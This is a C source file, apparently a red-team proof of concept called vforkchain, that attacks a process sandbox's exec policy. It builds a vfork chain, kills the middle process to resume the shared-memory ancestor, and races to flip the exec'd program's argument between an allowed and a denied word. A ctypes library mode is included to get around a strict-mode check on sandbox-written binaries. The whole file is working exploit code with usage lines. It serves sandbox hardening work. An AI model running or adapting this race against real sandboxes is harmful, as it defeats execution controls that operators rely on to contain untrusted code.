// vforkchain wakes a vfork ancestor that still shares the exec caller's
// memory, where a walk up the caller's parents cannot see it (found by the
// second red team):
//
//	P --vfork--> C --vfork--> D        P, C, D share one address space
//	D kills C: P's vfork wait ends and P runs again; D is reparented to the
//	init, so D's parent no longer shares its memory; D execs, and P rewrites
//	D's argv all the while.
//
//	vforkchain [-t] -n N -p PROG -a ALLOWED -d DENIED
//	python3 -c 'import ctypes; ctypes.CDLL("./libvforkchain.so").run(N, b"PROG", b"ALLOWED", b"DENIED")'
//	python3 -c 'import ctypes; ctypes.CDLL("./libvforkchain.so").run_threaded(...)'
//
// With -t (run_threaded) P is multi-threaded: a second thread of P, which
// vfork never suspends, does the flipping, from before the chain is made
// until D has exec'd or 20ms have passed.
//
// Each attempt execs PROG ALLOWED-or-DENIED (one 8-byte word, flipped
// atomically by P). With /bin/echo the output shows which ran; one summary
// line follows: summary n=N done=D.
#define _GNU_SOURCE
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

#define STACK (64 << 10)

// shared lives in the one address space P, C and D share.
static struct {
	volatile int ready;
	char *prog;
	char *argv[3];
	union {
		char s[8];
		uint64_t u;
	} word;
} *shared;
static char *stacks;
static uint64_t flip_a, flip_d;

// flipper rewrites D's argv word, for at most 20ms after D is ready.
static void flip(void) {
	struct timespec t0 = {0}, t;
	int started = 0;
	for (long k = 0;; k++) {
		__atomic_store_n(&shared->word.u, (k & 1) ? flip_d : flip_a, __ATOMIC_RELAXED);
		for (volatile int j = 0; j < 16; j++)
			;
		if ((k & 4095) == 0) {
			clock_gettime(CLOCK_MONOTONIC, &t);
			if (!started && shared->ready) {
				t0 = t;
				started = 1;
			}
			if (started && (t.tv_sec - t0.tv_sec) * 1000000000L + (t.tv_nsec - t0.tv_nsec) > 20000000L)
				break;
		}
	}
	shared->word.u = flip_a;
}

static void *flipper(void *arg) {
	(void)arg;
	flip();
	return NULL;
}

static int grandchild(void *arg) {
	(void)arg;
	pid_t c = getppid();
	kill(c, SIGKILL); // C dies: P's vfork wait is over, and P runs
	while (getppid() == c)
		;
	shared->ready = 1;
	execve(shared->prog, shared->argv, environ);
	_exit(127);
}

static int child(void *arg) {
	(void)arg;
	clone(grandchild, stacks + 2 * STACK, CLONE_VM | CLONE_VFORK | SIGCHLD, NULL);
	_exit(0);
}

// run makes n attempts. Built with -DLIB -shared it is the entry point of a
// library, so that a program on a read-only mount (python3 with ctypes) can
// run the attack in strict mode, which refuses to start a program the
// sandbox could have written.
static int attack(int n, char *prog, const char *allowed, const char *denied, int threaded) {
	if (strlen(allowed) > 7 || strlen(denied) > 7)
		return 2;
	memcpy(&flip_a, allowed, strlen(allowed));
	memcpy(&flip_d, denied, strlen(denied));
	int done = 0;
	for (int i = 0; i < n; i++) {
		fflush(stdout);
		pid_t p = fork();
		if (p == 0) {
			// P: everything D reads lives in private anonymous memory.
			shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
			stacks = mmap(NULL, 2 * STACK, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_STACK, -1, 0);
			if (shared == MAP_FAILED || stacks == MAP_FAILED)
				_exit(2);
			shared->prog = prog;
			shared->word.u = flip_a;
			shared->argv[0] = prog;
			shared->argv[1] = shared->word.s;
			shared->argv[2] = NULL;
			pthread_t th;
			if (threaded && pthread_create(&th, NULL, flipper, NULL) != 0)
				_exit(2);
			clone(child, stacks + STACK, CLONE_VM | CLONE_VFORK | SIGCHLD, NULL);
			if (threaded) {
				pthread_join(th, NULL);
				_exit(0);
			}
			while (!shared->ready)
				;
			flip();
			_exit(0);
		}
		waitpid(p, NULL, 0);
		usleep(2000);
		done++;
	}
	printf("summary n=%d done=%d\n", n, done);
	fflush(stdout);
	return 0;
}

// run makes n attempts. Built with -DLIB -shared it is the entry point of a
// library, so that a program on a read-only mount (python3 with ctypes) can
// run the attack in strict mode, which refuses to start a program the
// sandbox could have written.
int run(int n, char *prog, const char *allowed, const char *denied) {
	return attack(n, prog, allowed, denied, 0);
}

// run_threaded is run with the flipping done by a second thread of P.
int run_threaded(int n, char *prog, const char *allowed, const char *denied) {
	return attack(n, prog, allowed, denied, 1);
}

#ifndef LIB
int main(int argc, char **argv) {
	int n = 50, opt, threaded = 0;
	char *prog = NULL, *allowed = NULL, *denied = NULL;
	while ((opt = getopt(argc, argv, "tn:p:a:d:")) != -1) {
		switch (opt) {
		case 't': threaded = 1; break;
		case 'n': n = atoi(optarg); break;
		case 'p': prog = optarg; break;
		case 'a': allowed = optarg; break;
		case 'd': denied = optarg; break;
		default: return 2;
		}
	}
	if (!prog || !allowed || !denied) {
		fprintf(stderr, "usage: vforkchain [-t] -n N -p PROG -a ALLOWED -d DENIED (words of at most 7 bytes)\n");
		return 2;
	}
	return attack(n, prog, allowed, denied, threaded);
}
#endif
